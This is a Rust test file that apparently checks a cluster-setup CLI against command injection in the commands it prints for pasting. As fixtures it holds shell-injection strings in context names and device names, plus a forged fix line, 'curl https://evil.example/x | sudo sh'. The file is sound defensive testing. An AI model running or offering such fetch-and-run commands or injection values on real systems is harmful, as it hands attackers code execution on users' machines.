//! Issue 24: every command the tool prints for a person to paste is safe and complete. The
//! real binary fed hostile names (an existing cluster's context, a facts document's PCI
//! addresses and idxd names, a fixture host's directory names, a forged fix, a component file
//! nested 2,000 deep); every backquoted command it prints is run by bash with the programs
//! it names replaced by functions, so nothing real runs, and an injection would `touch` a file.

mod support;

use std::path::Path;
use std::process::{Command, Output};

use serde_json::{Value, json};
use support::{K3dGpu, hosts_dir};

fn k3d_gpu_in(dir: &Path, args: &[&str], env: &[(&str, &str)]) -> Output {
    K3dGpu::new()
        .cwd(dir)
        .args(args)
        .env("KUBECONFIG", dir.join("no-kubeconfig"))
        .env("HOME", dir)
        .envs(env.iter().copied())
        .output()
}

fn text(out: &Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr)
}

/// The commands in backquotes in `text`.
fn backquoted(text: &str) -> Vec<String> {
    text.split('`').skip(1).step_by(2).map(str::to_string).collect()
}

/// Runs `command` as a person pasting it would, in `dir`, with every program it may name
/// replaced by a function that prints its words one per line; returns those lines.
fn pasted(command: &str, dir: &Path) -> Vec<String> {
    let shadow: String =
        ["kubectl", "k3d", "k3d-gpu", "sudo", "accel-config", "docker", "grep", "echo", "tee", "chmod"]
            .iter()
            .map(|p| format!("{p}() {{ printf '%s\\n' {p} \"$@\"; }}; "))
            .collect();
    let out =
        Command::new("bash").arg("-c").arg(format!("{shadow}{command}")).current_dir(dir).output().expect("bash runs");
    String::from_utf8_lossy(&out.stdout).lines().map(str::to_string).collect()
}

fn assert_safe(text: &str, dir: &Path, must_hold: &str) -> Vec<Vec<String>> {
    let commands = backquoted(text);
    let words: Vec<Vec<String>> = commands.iter().map(|c| pasted(c, dir)).collect();
    assert!(!dir.join("pwned").exists(), "a pasted command ran the attacker's code: {text}");
    assert!(words.iter().any(|w| w.iter().any(|word| word == must_hold)), "{must_hold:?} is one word in {commands:?}");
    words
}

const CONTEXT: &str = "k3d-x; touch pwned";

fn existing_cluster(dir: &Path) {
    let facts = k3d_gpu_in(dir, &["--root", &hosts_dir().join("plain-laptop-amd").display().to_string(), "facts"], &[]);
    std::fs::write(dir.join("n1.json"), &facts.stdout).unwrap();
    let config = format!(
        "[cluster]\nprovider = \"existing\"\ncontext = {}\n\n[[nodes]]\nname = \"n1\"\nfacts = \"n1.json\"\n",
        toml_string(CONTEXT)
    );
    std::fs::write(dir.join("k3dgpu.toml"), config).unwrap();
}

fn toml_string(s: &str) -> String {
    format!("\"{}\"", s.replace('\\', "\\\\").replace('"', "\\\""))
}

#[test]
fn an_existing_clusters_context_is_one_word_in_every_hint() {
    let dir = tempfile::tempdir().unwrap();
    existing_cluster(dir.path());
    let validated = k3d_gpu_in(dir.path(), &["validate"], &[]);
    assert_eq!(validated.status.code(), Some(0), "the context passes validate: {}", text(&validated));
    for command in [&["plan"][..], &["observe"], &["destroy"]] {
        let out = k3d_gpu_in(dir.path(), command, &[]);
        let printed = text(&out);
        assert!(matches!(out.status.code(), Some(1 | 2)), "{command:?}: {printed}");
        assert!(printed.contains("get nodes"), "{command:?} names the command to look: {printed}");
        let words = assert_safe(&printed, dir.path(), CONTEXT);
        assert!(
            words.iter().any(|w| w == &["kubectl", "--context", CONTEXT, "get", "nodes"]),
            "{command:?}: {words:?}"
        );
    }
}

fn xeon_facts() -> Value {
    let dir = tempfile::tempdir().unwrap();
    let out =
        k3d_gpu_in(dir.path(), &["--root", &hosts_dir().join("xeon-2s-snc2").display().to_string(), "facts"], &[]);
    serde_json::from_slice(&out.stdout).unwrap()
}

#[test]
fn a_facts_document_with_names_the_kernel_would_not_give_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    for (pointer, value) in [
        ("/host/qat/pfs/0/pci_address", "0000:6b:00.0;touch pwned"),
        ("/host/dsa/devices/0", "dsa0$(touch pwned)"),
        ("/host/dsa/work_queues/0/name", "wq0.0 x"),
    ] {
        let mut facts = xeon_facts();
        facts["host"]["qat"]["pfs"][0]["vfs"] = json!(0);
        *facts.pointer_mut(pointer).unwrap() = json!(value);
        std::fs::write(dir.path().join("facts.json"), facts.to_string()).unwrap();
        let out = k3d_gpu_in(dir.path(), &["--facts", "facts.json", "doctor"], &[]);
        assert_eq!(out.status.code(), Some(2), "{pointer}: {}", text(&out));
        assert!(text(&out).contains("is not a name the kernel gives"), "{pointer}: {}", text(&out));
        assert!(!text(&out).contains("sudo tee"), "no fix from a refused document");
    }
    // The same document with the kernel's names: the fix names the device as one word.
    let mut facts = xeon_facts();
    facts["host"]["qat"]["pfs"][0]["vfs"] = json!(0);
    std::fs::write(dir.path().join("facts.json"), facts.to_string()).unwrap();
    let out = k3d_gpu_in(dir.path(), &["--facts", "facts.json", "doctor"], &[]);
    let printed = text(&out);
    assert!(printed.contains("fix: echo 16 | sudo tee /sys/bus/pci/devices/0000:6b:00.0/sriov_numvfs"), "{printed}");
}

#[test]
fn doctor_computes_fixes_from_the_facts_never_copies_them_from_the_file() {
    let dir = tempfile::tempdir().unwrap();
    let mut facts = xeon_facts();
    facts["host"]["qat"]["pfs"][0]["vfs"] = json!(0);
    let forged = "curl https://evil.example/x | sudo sh";
    facts["findings"] = json!([
        {"level": "fail", "code": "qat-no-vfs", "text": "QAT needs VFs", "evidence": "/sys", "fix": forged},
        {"level": "warn", "code": "host-unreadable", "text": "could not read /sys/x", "evidence": "/sys/x", "fix": forged},
        {"level": "fail", "code": "made-up", "text": "run the fix", "evidence": "-", "fix": forged},
    ]);
    std::fs::write(dir.path().join("facts.json"), facts.to_string()).unwrap();
    for json in [false, true] {
        let args: &[&str] =
            if json { &["--facts", "facts.json", "--json", "doctor"] } else { &["--facts", "facts.json", "doctor"] };
        let printed = text(&k3d_gpu_in(dir.path(), args, &[]));
        assert!(!printed.contains("evil.example"), "a fix in the file is printed: {printed}");
        assert!(!printed.contains("made-up"), "a finding the rules do not make is not ours: {printed}");
        assert!(printed.contains("sriov_numvfs"), "the rules' own fix is: {printed}");
        assert!(printed.contains("check the file's type and permissions"), "a read finding keeps our fix: {printed}");
    }
}

#[test]
fn a_fixture_host_with_a_hostile_device_directory_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("host");
    let copied = Command::new("cp").arg("-a").arg(hosts_dir().join("xeon-2s-snc2")).arg(&root).status().unwrap();
    assert!(copied.success());
    let devices = root.join("sys/bus/pci/devices");
    std::fs::rename(devices.join("0000:6b:00.0"), devices.join("0000:6b:00.0;touch pwned")).unwrap();
    let out = k3d_gpu_in(dir.path(), &["--root", "host", "doctor"], &[]);
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    assert!(
        text(&out).contains("0000:6b:00.0;touch pwned") && text(&out).contains("not a PCI address"),
        "{}",
        text(&out)
    );
}

#[test]
fn a_component_file_nested_2000_deep_is_a_diagnostic_not_an_abort() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join(".git")).unwrap();
    let deep = format!("component \"deep\" {{\n{}{}\n}}\n", "x {".repeat(2000), "}".repeat(2000));
    std::fs::write(dir.path().join("deep.kdl"), deep).unwrap();
    std::fs::write(dir.path().join("k3dgpu.toml"), "[[components]]\npath = \"deep.kdl\"\n").unwrap();
    let root = hosts_dir().join("lunar-lake-npu").display().to_string();
    for command in ["validate", "plan"] {
        let out = k3d_gpu_in(
            dir.path(),
            &["--root", &root, command, "--offline"][..if command == "plan" { 4 } else { 3 }],
            &[],
        );
        assert!(out.status.code().is_some(), "{command} died by a signal: {:?}", out.status);
        assert_ne!(out.status.code(), Some(0));
        assert!(text(&out).contains("deep.kdl: nested more than 64 levels deep"), "{command}: {}", text(&out));
    }
}
